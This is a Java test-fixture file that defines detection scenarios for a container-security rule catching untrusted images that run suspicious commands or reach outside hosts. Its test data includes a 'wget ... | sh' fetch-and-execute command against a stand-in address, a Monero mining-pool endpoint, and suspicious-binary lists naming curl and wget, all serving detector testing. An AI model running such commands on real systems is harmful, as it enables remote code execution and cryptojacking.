package io.tallyman.links;

import static io.tallyman.Chain.ADDRESS;
import static io.tallyman.Chain.EVIL;
import static io.tallyman.Chain.INTERNET;
import static io.tallyman.Chain.OTHER;
import static io.tallyman.Chain.PID;
import static io.tallyman.Chain.POD;
import static io.tallyman.Chain.SOON;
import static io.tallyman.Chain.SUBJECT;
import static io.tallyman.History.HOST;
import static io.tallyman.History.START;
import static io.tallyman.History.created;
import static io.tallyman.History.executed;
import static io.tallyman.History.reported;
import static io.tallyman.History.started;
import static io.tallyman.links.ContainerStories.ALMOST_BLOCKING;
import static io.tallyman.links.ContainerStories.BLOCKING;
import static io.tallyman.links.ContainerStories.IN_POD;
import static io.tallyman.links.ContainerStories.LONE;
import static io.tallyman.links.ContainerStories.NEW_DIGEST;
import static io.tallyman.links.ContainerStories.NEXT_DAY;
import static io.tallyman.links.ContainerStories.brokenByOtherAddresses;
import static io.tallyman.links.ContainerStories.brokenByOtherContainers;
import static io.tallyman.links.ContainerStories.brokenByOtherProcesses;
import static io.tallyman.links.ContainerStories.curl;
import static io.tallyman.links.ContainerStories.excluding;
import static io.tallyman.links.ContainerStories.flow;
import static io.tallyman.links.ContainerStories.run;
import static io.tallyman.links.ContainerStories.silencedByImage;
import static io.tallyman.links.ContainerStories.withWindow;

import io.tallyman.event.Destination;
import io.tallyman.event.PodReference;
import java.util.stream.Stream;

/** Rows of AN0691's detections. */
final class ContainerDetectionRows {

    private static final String[] CURL = {"curl", "http://" + INTERNET + "/x"};
    private static final Destination OUT = Destination.of(INTERNET, 443);
    private static final Story RUNS = LONE.with(Link.COMMAND, curl(SOON));
    private static final Story REACHES = LONE.with(Link.FLOW, flow(SOON, OUT));
    private static final String SCOPED = "NamespaceScope: [shop]";
    private static final PodReference ELSEWHERE = new PodReference("lab", "web", "uid-1");

    private ContainerDetectionRows() {}

    static Stream<Row> rows() {
        return Stream.of(ran(), reached(), both(), ranInScope(), reachedInScope(), reachedBlocked(), ranBlocked());
    }

    private static Row command(Row row) {
        return withWindow(silencedByImage(brokenByOtherContainers(row)), Link.COMMAND, ContainerStories::curl);
    }

    private static Row flowing(Row row) {
        return withWindow(silencedByImage(brokenByOtherContainers(row)), Link.FLOW, time -> flow(time, OUT));
    }

    private static Row ran() {
        var row = Row.deciding(
                "AN0691 untrusted image ran a suspicious command", RUNS, Link.CREATION, Link.START, Link.COMMAND);
        return brokenByOtherProcesses(command(row), CURL)
                .broken("a harmless command", LONE.with(Link.COMMAND, run(SOON, "curl", "--version")))
                .broken(
                        "a new digest of an allowed repository",
                        NEW_DIGEST.with(Link.COMMAND, run(NEXT_DAY.plusSeconds(5), CURL)))
                .silencedBy("SuspiciousBinaries: [wget]", "SuspiciousBinaries: [curl]");
    }

    private static Row reached() {
        var row = Row.deciding(
                "AN0691 untrusted image reached out", REACHES, Link.CREATION, Link.START, Link.PLACE, Link.FLOW);
        return brokenByOtherAddresses(flowing(row), OUT)
                .broken("an approved destination", LONE.with(Link.FLOW, flow(SOON, "10.1.2.3")))
                .also("a new digest", NEW_DIGEST.with(Link.FLOW, flow(NEXT_DAY.plusSeconds(5), OUT)))
                .silencedBy(
                        "ApprovedEgress: {networks: [198.51.100.7/32]}",
                        "ApprovedEgress: {networks: [198.51.100.6/32]}");
    }

    private static Row both() {
        var whole = RUNS.with(Link.FLOW, flow(SOON, OUT));
        var row = Row.adding(
                "AN0691 untrusted image ran a suspicious command and reached out",
                whole,
                Link.CREATION,
                Link.START,
                Link.PLACE,
                Link.COMMAND,
                Link.FLOW);
        return silencedByImage(row)
                .broken("one container ran, another reached out", twoContainers(whole))
                .silencedBy(excluding("command: \"curl *\""), excluding("command: \"wget *\""))
                .silencedBy(excluding("destination: 198.51.100.7"), excluding("destination: 198.51.100.8"))
                .silencedBy("TimeWindow: 4s", "TimeWindow: 5s")
                .edge(
                        "the connection, TimeWindow after the start",
                        ContainerStories.TIME_WINDOW,
                        since -> whole.with(Link.FLOW, flow(START.plus(since), OUT)))
                .edge(
                        "the command, TimeWindow after the start",
                        ContainerStories.TIME_WINDOW,
                        since -> whole.with(Link.COMMAND, curl(START.plus(since))));
    }

    private static Story twoContainers(Story whole) {
        return whole.with(
                        Link.CREATION,
                        created(START.minusSeconds(1), SUBJECT, EVIL),
                        created(START.minusSeconds(1), OTHER, EVIL))
                .with(Link.START, started(START, SUBJECT, PID), started(START, OTHER, 9000))
                .with(Link.COMMAND, executed(SOON, HOST, 9001, 9000, CURL));
    }

    private static Row scoped(Row row) {
        return row.broken(
                        "a pod of another namespace",
                        row.whole().with(Link.PLACE, reported(START, ELSEWHERE, SUBJECT, ADDRESS)))
                .silencedBy("NamespaceScope: [prod]", "NamespaceScope: [\"sh*\"]")
                .silencedBy(excluding("namespace: shop"), excluding("namespace: shopping"));
    }

    private static Row ranInScope() {
        var whole = IN_POD.tuned(SCOPED).with(Link.COMMAND, curl(SOON));
        return scoped(command(Row.adding(
                        "AN0691 untrusted image ran a suspicious command inside NamespaceScope",
                        whole,
                        Link.CREATION,
                        Link.START,
                        Link.PLACE,
                        Link.COMMAND)))
                .broken(
                        "a new digest of an allowed repository",
                        NEW_DIGEST
                                .tuned(SCOPED)
                                .with(Link.PLACE, reported(NEXT_DAY, POD, SUBJECT, ADDRESS))
                                .with(
                                        Link.COMMAND,
                                        run(
                                                NEXT_DAY.plusSeconds(5),
                                                "bash",
                                                "-c",
                                                "wget -qO- http://198.51.100.7/i | sh")));
    }

    private static Row reachedInScope() {
        var whole = IN_POD.tuned(SCOPED).with(Link.FLOW, flow(SOON, OUT));
        return scoped(flowing(Row.adding(
                "AN0691 untrusted image reached out inside NamespaceScope",
                whole,
                Link.CREATION,
                Link.START,
                Link.PLACE,
                Link.FLOW)));
    }

    private static Row reachedBlocked() {
        var row = Row.adding(
                "AN0691 untrusted image reached a blocked or mining destination",
                REACHES.tuned(BLOCKING),
                Link.CREATION,
                Link.START,
                Link.PLACE,
                Link.FLOW);
        return flowing(row)
                .also("a mining pool", LONE.with(Link.FLOW, flow(SOON, ContainerStories.POOL)))
                .silencedBy(ALMOST_BLOCKING, "OutboundCIDRBlockList: {networks: [198.51.100.7/32]}");
    }

    private static Row ranBlocked() {
        var row = Row.adding(
                "AN0691 untrusted image ran a command that names a blocked destination",
                RUNS.tuned(BLOCKING),
                Link.CREATION,
                Link.START,
                Link.COMMAND);
        return command(row)
                .also("a mining pool", LONE.with(Link.COMMAND, run(SOON, "fetcher", "pool.minexmr.com:4444")))
                .silencedBy(ALMOST_BLOCKING, "OutboundCIDRBlockList: {networks: [198.51.100.7/32]}");
    }
}
